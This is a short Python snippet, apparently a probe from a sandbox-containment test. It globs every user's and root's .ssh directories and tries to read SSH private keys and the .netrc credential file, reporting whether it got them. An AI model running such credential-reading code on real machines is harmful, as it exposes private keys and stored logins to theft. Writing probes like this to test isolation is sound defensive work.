# Reads the private keys of the user.
import glob

found = glob.glob("/home/*/.ssh/*") + glob.glob("/root/.ssh/*") + glob.glob(FACTS["home"] + "/.ssh/*")
if found:
    escaped(found)
held("; ".join(tries(read, path) for path in (FACTS["home"] + "/.ssh/id_ed25519", "/root/.ssh/id_rsa", FACTS["home"] + "/.netrc")))
